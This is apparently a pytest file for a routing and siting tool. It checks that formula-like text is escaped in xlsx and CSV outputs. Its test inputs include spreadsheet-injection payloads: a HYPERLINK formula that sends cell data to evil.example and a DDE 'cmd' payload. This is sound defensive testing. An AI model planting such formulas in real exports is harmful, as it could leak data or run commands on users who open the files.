"""Formulas from input text (issue #10): errand, runner, area and site text that starts like a
formula is a string cell in ``routes.xlsx`` and starts with ``'`` in the CSV outputs, while
numbers stay numbers."""

from __future__ import annotations

import csv
import json

import pandas as pd
import pytest
from openpyxl import load_workbook

from gis.io import read_table, write_csv
from tests.hostile_data import (
    add_day_files,
    copy_region,
    edit_area_names,
    edit_csv,
    errands_frame,
    run_cli,
    runners_frame,
)

pytestmark = pytest.mark.slow

FORMULAS = ('=HYPERLINK("http://evil.example/?q="&A1,"点我")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,2)", "＝1+1", "=1+1")


def formula(label: str, i: int) -> str:
    """A planted value: a formula start, then a label to find it by."""
    return f"{FORMULAS[i % len(FORMULAS)]}{label}"


RUNNER_NAMES = [formula("跑手甲", 5), formula("跑手乙", 3)]


@pytest.fixture(scope="module")
def demo_out(tmp_path_factory):
    """`bianmin demo` on an Andorra copy with formula text in every text field."""
    root = tmp_path_factory.mktemp("formula")
    reg = copy_region(root / "andorra")
    edit_csv(reg / "candidates.csv", name=lambda i: formula(f"site{i}", i))
    edit_area_names(reg / "areas.geojson", lambda i: formula(f"area{i}", i))
    errands = errands_frame(lambda field, i: formula(f"{field}{i}", i))
    add_day_files(reg, errands, runners_frame(["=R1", "-R2"], RUNNER_NAMES))
    out = root / "out"
    res = run_cli(["demo", "--region", str(reg), "--out", str(out), "--tiles", "none",
                   "--time-limit", "5", "--date", "2026-11-26", "--quiet"])
    assert res.exit_code == 0, res.output
    return {"out": out, "errands": errands}


def test_workbook_cells_are_text_not_formulas(demo_out):
    """Every planted text is a string cell with its exact value; counts stay numbers."""
    wb = load_workbook(demo_out["out"] / "routes" / "routes.xlsx")
    planted = set(RUNNER_NAMES) | {"=R1", "-R2"}
    for field in ("items", "contact_name", "address"):
        planted |= set(demo_out["errands"][field])
    found = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value in planted:
                    found[cell.value] = cell.data_type
    assert set(found) == planted
    assert set(found.values()) == {"s"}
    summary = wb.worksheets[0]
    header = next(r for r in summary.iter_rows() if r[0].value == "跑手 Runner ID")
    errands_col = [c.value for c in header].index("事项 Errands")
    counts = [r[errands_col] for r in summary.iter_rows(min_row=header[0].row + 1,
                                                        max_row=header[0].row + 2)]
    assert [c.data_type for c in counts] == ["n", "n"]
    plan = json.loads((demo_out["out"] / "routes" / "plan.json").read_text(encoding="utf-8"))
    assert sum(c.value for c in counts) == plan["n_served"]  # the 1 s limit may leave some out


def _raw_cells(path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def test_csv_outputs_quote_formula_text(demo_out):
    """Site and area names in the CSV outputs start with ``'``; bianmin reads them back whole."""
    out = demo_out["out"]
    checked = 0
    for path in [out / "siting" / "chosen.csv", out / "coverage" / "areas.csv"]:
        rows = _raw_cells(path)
        head, body = rows[0], rows[1:]
        col = head.index("name")
        for r in body:
            assert r[col].startswith("'") and r[col][1:].startswith(tuple(
                f[0] for f in FORMULAS)), (path.name, r[col])
            checked += 1
        for name, back in zip([r[col] for r in body], read_table(path)["name"], strict=True):
            assert back == name[1:]
        for c, h in enumerate(head):  # numeric columns hold plain numbers, never quoted
            if h in ("population", "covered_population", "added_population", "rank"):
                for r in body:
                    float(r[c])
    assert checked >= 5


def test_write_csv_negative_numbers_stay_numbers(tmp_path):
    """A negative number in a numeric column stays a number; the same as text is quoted."""
    df = pd.DataFrame({"lon": [-70.25, 1.5], "note": ["-70.25", "ok"], "n": [-3, 4]})
    path = write_csv(df, tmp_path / "t.csv")
    rows = _raw_cells(path)
    assert rows[1] == ["-70.25", "'-70.25", "-3"]
    assert rows[2] == ["1.5", "ok", "4"]
    assert list(read_table(path)["note"]) == ["-70.25", "ok"]
